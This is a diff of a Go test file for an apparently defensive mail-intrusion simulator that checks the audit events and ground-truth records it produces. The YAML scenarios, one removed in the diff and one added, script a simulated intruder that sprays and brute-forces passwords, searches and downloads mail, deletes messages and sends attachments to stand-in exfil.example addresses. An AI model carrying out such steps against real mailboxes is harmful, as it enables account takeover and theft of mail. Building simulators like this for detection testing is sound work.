@@ -1,4 +1,4 @@
-package scenarios
+package run
 
 import (
 	"bytes"
@@ -13,70 +13,21 @@ import (
 	"github.com/stretchr/testify/require"
 
 	"github.com/maildrill/maildrill/mailsim/audit"
+	"github.com/maildrill/maildrill/scenarios"
 )
 
 // allSteps exercises every step kind against the embedded target.
-const allSteps = `
-id: all-steps
-title: every step kind
-environment: {users: 8, messages: 30, seed: 3, start: 2025-12-11T22:00:00+01:00, duration: 6h}
-actors:
-  - id: intruder
-    kind: attacker
-    source: 203.0.113.50
-    client: {name: TestClient, version: "9"}
-    helo: EVIL-PC
-    credentials: {user: secretariat}
-    pacing: {delay: 3s}
-    steps:
-      - id: spray
-        spray: {users: 4, passwords: [NotIt1!, NotIt2!], delay: 10s}
-      - id: brute
-        brute_force: {user: director, attempts: 5, delay: 2s}
-      - id: login
-        login: {}
-      - id: list
-        list: {}
-      - id: examine
-        examine: INBOX
-      - id: search
-        search: {keywords: [dossier, note]}
-      - id: headers
-        fetch_headers: {from_search: true, limit: 5}
-      - id: attachments
-        download_attachments: {limit: 3}
-      - id: messages
-        download_messages: {limit: 2}
-      - id: others
-        open_mailboxes: {scope: all}
-      - id: mark
-        mark: {mailbox: INBOX, seen: false, limit: 2}
-      - id: move
-        move: {mailbox: INBOX, name: Trash, limit: 1}
-      - id: append
-        append: {mailbox: Drafts, subject: drop, body: "rendez-vous"}
-      - id: idle
-        idle: 2m
-      - id: delete
-        delete: {mailbox: INBOX, limit: 2, expunge: true}
-      - id: wait
-        wait: 30m
-      - id: send
-        send: {to: [drop@exfil.example], attach: downloaded, max_attachments: 2, delay: 10s}
-      - id: forward
-        forward: {mailbox: INBOX, to: [relay@exfil.example], limit: 1}
-      - id: repeat
-        repeat:
-          times: 2
-          steps: [{login: {}}, {list: {}}, logout]
-      - id: foreach
-        foreach: {over: mailboxes, limit: 2, steps: [{fetch_headers: {limit: 1}}]}
-      - logout
-`
+var allSteps = func() string {
+	b, err := os.ReadFile("../testdata/all-steps.yaml")
+	if err != nil {
+		panic(err)
+	}
+	return string(b)
+}()
 
-func runYAML(t *testing.T, src string) (*Result, []*audit.Event) {
+func runYAML(t *testing.T, src string) (*scenarios.Result, []*audit.Event) {
 	t.Helper()
-	sc, err := Parse("test.yaml", []byte(src))
+	sc, err := scenarios.Parse("test.yaml", []byte(src))
 	require.NoError(t, err)
 	var evBuf, trBuf, slBuf bytes.Buffer
 	res, err := Run(context.Background(), sc, Options{Events: &evBuf, Truth: &trBuf, Syslog: &slBuf})
@@ -90,10 +41,10 @@ func runYAML(t *testing.T, src string) (*Result, []*audit.Event) {
 	require.Equal(t, res.Events, len(evs))
 	trLines := bytes.Split(bytes.TrimSpace(trBuf.Bytes()), []byte("\n"))
 	require.Equal(t, len(res.Truth)+1, len(trLines), "the header, then one line per action")
-	h, ok, err := ParseRecordingHeader(trLines[0])
+	h, ok, err := scenarios.ParseRecordingHeader(trLines[0])
 	require.NoError(t, err)
 	require.True(t, ok, "the first truth line is the recording header")
-	require.Equal(t, RecordingHeader{Format: RecordingFormat, RunID: res.RunID, ScenarioID: sc.ID, ScenarioSHA256: sc.SHA256,
+	require.Equal(t, scenarios.RecordingHeader{Format: scenarios.RecordingFormat, RunID: res.RunID, ScenarioID: sc.ID, ScenarioSHA256: sc.SHA256,
 		ScenarioFile: "test.yaml", Seed: sc.Env.Seed, Target: "embedded", RulesSHA256: h.RulesSHA256, Rules: h.Rules}, h)
 	require.NotEmpty(t, h.RulesSHA256)
 	require.Positive(t, h.Rules)
@@ -190,7 +141,7 @@ func TestDeterminism(t *testing.T) {
 	src = strings.Replace(src, "      - id: spray\n", "      - id: spray\n        at: \"22:00\"\n", 1)
 	var runs [2][2]string
 	for i := range runs {
-		sc, err := Parse("d.yaml", []byte(src))
+		sc, err := scenarios.Parse("d.yaml", []byte(src))
 		require.NoError(t, err)
 		var ev, tr bytes.Buffer
 		_, err = Run(context.Background(), sc, Options{Events: &ev, Truth: &tr})
@@ -220,8 +171,83 @@ func TestScenarioOfRunID(t *testing.T) {
 		{"my-run", "", false},
 		{"md-x-8db0faa", "", false},
 	} {
-		id, ok := ScenarioOfRunID(c.in)
+		id, ok := scenarios.ScenarioOfRunID(c.in)
 		assert.Equal(t, c.ok, ok, c.in)
 		assert.Equal(t, c.id, id, c.in)
+	}
+}
+
+// connectSelect runs the two kinds the all-steps scenario leaves out.
+const connectSelect = `
+id: connect-select
+title: reconnaissance, then a read-write select
+environment: {users: 5, messages: 5, seed: 3, start: 2025-12-11T22:00:00+01:00, duration: 1h}
+actors:
+  - id: intruder
+    kind: attacker
+    source: 203.0.113.51
+    credentials: {user: secretariat}
+    steps:
+      - {id: recon, connect: {}}
+      - {id: in, login: {}}
+      - {id: select, select: INBOX}
+      - logout
+`
+
+func TestConnectSelect(t *testing.T) {
+	res, evs := runYAML(t, connectSelect)
+	const ip = "203.0.113.51"
+	logins, selects := 0, 0
+	for _, e := range evs {
+		if e.SourceIP != ip {
+			continue
+		}
+		switch e.Action {
+		case audit.IMAPLogin:
+			logins++
+		case audit.IMAPSelect:
+			selects++
+			assert.Equal(t, "INBOX", e.Mailbox)
+		}
+	}
+	assert.Equal(t, 1, logins, "connect does not log in; login does")
+	assert.Equal(t, 1, selects)
+	recon := 0
+	for _, tr := range res.Truth {
+		if tr.Step == "recon" && tr.Action == "imap.connect" {
+			recon++
+		}
+	}
+	assert.Equal(t, 1, recon, "connect: one reconnaissance session in the ground truth")
+}
+
+// TestEveryKindImplemented: the scenario language's registry of step kinds
+// and the implementations here name the same kinds, and the all-steps
+// scenario with connectSelect exercises each of them (TestEveryStepKind and
+// TestConnectSelect run them).
+func TestEveryKindImplemented(t *testing.T) {
+	used := map[string]bool{}
+	var walk func([]*scenarios.Step)
+	walk = func(steps []*scenarios.Step) {
+		for _, st := range steps {
+			used[st.Kind] = true
+			walk(st.Params().Steps)
+		}
+	}
+	for _, src := range []string{allSteps, connectSelect} {
+		sc, err := scenarios.Parse("steps.yaml", []byte(src))
+		require.NoError(t, err)
+		for _, a := range sc.Actors {
+			walk(a.Steps)
+		}
+	}
+	kinds := map[string]bool{}
+	for _, k := range scenarios.StepKinds() {
+		kinds[k.Name] = true
+		assert.Contains(t, impls, k.Name, "step kind %q has no implementation in scenarios/run", k.Name)
+		assert.True(t, used[k.Name], "step kind %q is run by no test: add it to testdata/all-steps.yaml", k.Name)
+	}
+	for name := range impls {
+		assert.True(t, kinds[name], "implementation %q is of no registered step kind (scenarios/kinds.go)", name)
 	}
 }
